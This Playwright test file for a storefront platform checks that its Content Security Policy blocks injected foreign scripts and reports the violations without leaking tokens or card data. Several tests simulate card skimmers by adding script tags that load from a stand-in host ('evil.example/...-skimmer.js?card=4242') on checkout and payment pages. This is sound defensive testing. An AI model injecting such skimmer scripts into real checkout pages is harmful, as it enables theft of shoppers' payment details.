import { join, resolve } from 'node:path';
import { expect, type Page, test } from 'playwright/test';
import { insertPolicy } from '#builder/publish/place-policy.ts';
import { loadStoreFolder } from '#store-folder/load-store-folder.ts';
import { POLICY_VIOLATIONS_MAX } from '#storefront/rules/policy-violation.ts';
import { SHOP_URL, shopUrl } from '../helpers/browser/addresses.ts';
import { stubExternalServices } from '../helpers/browser/external-services.ts';
import {
  continueToPayment,
  fillAddress,
  getHostedCheckoutUrl,
} from '../helpers/browser/hosted-checkout-page.ts';
import { getLocalPage } from '../helpers/browser/local-page.ts';
import { enterMembersStore } from '../helpers/browser/members.ts';
import { moveMouse } from '../helpers/browser/move-mouse.ts';
import { PAGE_STATES } from '../helpers/browser/page-states.ts';
import { run } from '../helpers/built/command.ts';
import { hasNginx, startNginx } from '../helpers/built/hosts/nginx.ts';
import { createWorkFolder, editFile, startTestPlatform } from '../helpers/built/sample.ts';
import { shopkiln } from '../helpers/commands/shopkiln.ts';
import { readTestVariable } from '../tools/test-variables.ts';

/** Adds a script of another site to the page, as injected code would. The policy blocks it. */
const addScript = (page: Page, src: string) =>
  page.evaluate((url) => {
    const script = document.createElement('script');
    script.src = url;
    document.body.append(script);
  }, src);

/** The bodies of the error reports that the page sends. */
function watchReports(page: Page): string[] {
  const sent: string[] = [];
  page.on(
    'request',
    (request) => request.url().includes('/envelope/') && sent.push(request.postData() ?? ''),
  );
  return sent;
}

test('PROOF-6 violations of the policy, also those before the first interaction, reach the error reports of the platform', async ({
  page,
}) => {
  await stubExternalServices(page.context());
  const sent = watchReports(page);
  await page.goto('/checkout/express?token=s3cret9', { waitUntil: 'networkidle' });
  await addScript(page, 'https://evil.example/early-skimmer.js?card=4242');
  expect(sent).toEqual([]);
  await moveMouse(page);
  await expect.poll(() => sent.length).toBe(1);
  await addScript(page, 'https://evil.example/late-skimmer.js');
  await expect.poll(() => sent.length).toBe(2);
  expect(sent.join()).not.toMatch(/4242|s3cret9|card=|token=/);
  const list = await getLocalPage('/errors');
  const reports = async () => (await page.request.get(list)).text();
  await expect
    .poll(reports)
    .toMatch(
      /PolicyViolation: script-src-elem blocked https:\/\/evil\.example\/early-skimmer\.js[\s\S]*corvane, http:\/\/localhost:\d+\/(?:cart|checkout)/,
    );
  expect(await reports()).toContain('evil.example/late-skimmer.js');
});

test('PROOF-6 a page reports each violation once, and a few at most', async ({ page }) => {
  await stubExternalServices(page.context());
  const sent = watchReports(page);
  await page.goto('/about', { waitUntil: 'networkidle' });
  await moveMouse(page);
  await page.waitForLoadState('networkidle');
  for (const name of ['a', 'a', 'b', 'c', 'd', 'e'])
    await addScript(page, `https://evil.example/${name}.js?${name}`);
  await expect.poll(() => sent.length).toBe(POLICY_VIOLATIONS_MAX);
  // An error of the page still has room.
  await page.evaluate(() => void Promise.reject(new Error('No room left')));
  await expect.poll(() => sent.length).toBe(POLICY_VIOLATIONS_MAX + 1);
});

test('PROOF-6 a store without error reporting sends nothing', async ({ page }) => {
  const sent = watchReports(page);
  await page.goto(`${shopUrl('moth-kiosk')}/about`, { waitUntil: 'networkidle' });
  await moveMouse(page);
  await addScript(page, 'https://evil.example/skimmer.js');
  await page.waitForLoadState('networkidle');
  expect(sent).toEqual([]);
});

test('PROOF-6 violations on the pages of the hosted checkout reach the error reports without a script of the page', async ({
  page,
}) => {
  const list = await getLocalPage('/errors');
  const reports = async () => (await page.request.get(list)).text();
  await page.goto(getHostedCheckoutUrl());
  await addScript(page, 'https://evil.example/details-skimmer.js?card=4242');
  await fillAddress(page);
  await continueToPayment(page);
  await expect(page.getByRole('radio', { name: /Standard delivery/ })).toBeChecked();
  await addScript(page, 'https://evil.example/payment-skimmer.js');
  const id = new URL(page.url()).pathname.split('/').at(-1) ?? '';
  await expect
    .poll(reports)
    .toMatch(/script-src-elem blocked https:\/\/evil\.example\/details-skimmer\.js</);
  await expect
    .poll(reports)
    .toMatch(
      /evil\.example\/payment-skimmer\.js[\s\S]*corvane, http:\/\/localhost:\d+\/buy\/express_checkout,/,
    );
  expect(await reports()).not.toContain(id);
});

/** Responds as a host that adds no header of its own: the pages contain their policy. */
async function movePolicyToPages(page: Page): Promise<void> {
  await page.route(/^http:\/\/localhost/, async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch({ maxRedirects: 0 });
    const sent = response.headers();
    const { 'content-type': type = '', 'content-security-policy': policy = '', location } = sent;
    const headers = { 'content-type': type, ...(location && { location }) };
    const body = insertPolicy(
      await response.body(),
      policy.replace("; frame-ancestors 'none'", ''),
    );
    return route.fulfill({ response, headers, body });
  });
}

/** Loads a page with the code that waits for the first interaction, and adds a script of another site. */
async function visit(page: Page, url: string): Promise<string[]> {
  const violations: string[] = [];
  page.on(
    'console',
    (message) =>
      message.text().includes('Content Security Policy') && violations.push(message.text()),
  );
  await page.goto(url);
  await moveMouse(page);
  await page.waitForLoadState('networkidle');
  expect(violations, url).toEqual([]);
  await addScript(page, 'https://evil.example/skimmer.js');
  await expect.poll(() => violations.length, { message: url }).toBeGreaterThan(0);
  return violations;
}

/** All other page types, for `npm run test:all`. */
const MORE_PAGES = PAGE_STATES.flatMap(({ path }) =>
  typeof path === 'string' ? [shopUrl('after-dark') + path] : [],
);
const PAGES = [
  ...new Set(readTestVariable('LONG') === '1' ? MORE_PAGES : []),
  ...[
    '/',
    '/training',
    '/listing/split-lines',
    '/search?searchterm=tee',
    '/cart',
    '/checkout/express',
    '/about',
  ].map((path) => SHOP_URL + path),
  ...['/', '/lost-property'].map((path) => shopUrl('moth-kiosk') + path),
  ...['/login', '/eleven-days'].map((path) => shopUrl('hedge-and-quire') + path),
  `${shopUrl('back-room')}/login`,
];

/** Pages that are also visited as on a host without headers. */
const PAGES_WITH_POLICY = [
  `${SHOP_URL}/listing/split-lines`,
  `${SHOP_URL}/checkout/express`,
  `${shopUrl('back-room')}/login`,
];

test('CSP-1 no page violates its policy, with and without headers of the host, and each page’s policy blocks a foreign script', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const context = await browser.newContext();
  await stubExternalServices(context);
  const visits = [
    ...PAGES.map((url) => ({ url, hasHeaders: true })),
    ...PAGES_WITH_POLICY.map((url) => ({ url, hasHeaders: false })),
  ];
  for (const { url, hasHeaders } of visits) {
    const page = await context.newPage();
    if (url.endsWith('/eleven-days')) await enterMembersStore(page);
    if (!hasHeaders) await movePolicyToPages(page);
    const [violation] = await visit(page, url);
    expect(violation, url).toMatch(/skimmer\.js.* violates .*"script-src 'self'/);
    await page.close();
  }
  await context.close();
});

test('CSP-3 nginx: a color that is published without a reload of the server shows, no policy is violated, and the first picture is loaded once', async ({
  page,
}) => {
  test.skip(!hasNginx, 'nginx is not installed');
  test.setTimeout(300_000);
  const work = await createWorkFolder('published-color');
  const [stores, sites] = [join(work, 'stores'), resolve(work, 'sites')];
  const [slug, dir] = ['night-owls', join(stores, 'night-owls')];
  const store = [slug, '--name', 'Night Owls', '--currency', 'EUR', '--region', 'EU'];
  await shopkiln(['new-store', ...store], { env: { STORES_DIR: stores } });
  const platform = await startTestPlatform(dir);
  const env = {
    SHOPKILN_WORK: work,
    STORES_DIR: stores,
    PLATFORM_URL: platform.url,
    PUBLISH_TO: `folder:${sites}`,
  };
  const publish = async (background: string) => {
    await editFile(join(dir, 'theme.json'), (text) => {
      const theme = JSON.parse(text);
      const styles = { ...theme.styles, page: { ...theme.styles?.page, background } };
      return JSON.stringify({ ...theme, styles });
    });
    const loaded = await loadStoreFolder(dir);
    if (loaded.ok) await platform.seed(loaded.folder);
    const { output } = await run('build', [slug, '--host', 'nginx'], env);
    expect(output).toContain('night-owls: published as release');
  };
  await publish('#fafbfc');
  const server = await startNginx(join(sites, slug, 'current'));
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|preload/.test(message.text())) violations.push(message.text());
  });
  const body = page.locator('body');
  await page.goto(server.url);
  await expect(body).toHaveCSS('background-color', 'rgb(250, 251, 252)');
  await publish('#123456');
  await page.goto(server.url);
  await expect(body).toHaveCSS('background-color', 'rgb(18, 52, 86)');
  await page.locator('a[href*="/listing/"]').first().click();
  await expect(page).toHaveURL(/\/listing\//);
  await moveMouse(page);
  await page.waitForLoadState('networkidle');
  const starts = await page
    .locator('img[fetchpriority=high]')
    .first()
    .evaluate((image) =>
      performance
        .getEntriesByName((image as HTMLImageElement).currentSrc)
        .map((entry) => (entry as PerformanceResourceTiming).initiatorType),
    );
  expect(starts).toEqual(['link']);
  expect(violations).toEqual([]);
  await server.stop();
  await platform.close();
});

test('CSP-2 the search runs in a worker whose response has a policy of its own', async ({
  page,
}) => {
  await page.goto('/search?searchterm=reservoir');
  await expect(
    page
      .getByRole('main')
      .getByRole('link', { name: /Reservoir/ })
      .first(),
  ).toBeVisible();
  const listUrls = () => page.workers().map((worker) => worker.url());
  await expect.poll(listUrls).toEqual([expect.stringContaining('/_astro/workers/')]);
  // Browsers do not always report the response of a worker.
  const response = await page.request.get(listUrls()[0] ?? '');
  expect(response.headers()['content-security-policy']).toMatch(
    /^default-src 'none'; script-src 'self';/,
  );
});
